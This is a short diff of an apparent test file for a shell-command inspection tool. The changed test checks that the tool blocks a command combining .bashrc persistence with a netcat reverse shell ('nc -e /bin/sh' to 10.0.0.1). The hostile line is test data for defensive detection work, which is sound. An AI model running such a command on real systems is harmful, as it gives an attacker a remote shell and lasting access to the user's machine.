@@ -234,7 +234,7 @@ describe("model output", () => {
 
 describe("decisions and findings", () => {
   test("block outranks require_approval", () => {
-    const outcome = inspect(bash("echo 'export A=1' >> ~/.bashrc; nc -e /bin/sh 10.0.0.1 1"));
+    const outcome = inspect(bash("echo 'cowsay hello' >> ~/.bashrc; nc -e /bin/sh 10.0.0.1 1"));
     expect(outcome.decision).toBe("block");
     expect(checkIds(outcome).sort()).toEqual(["shell.persistence_shell_rc", "shell.reverse_shell"]);
   });
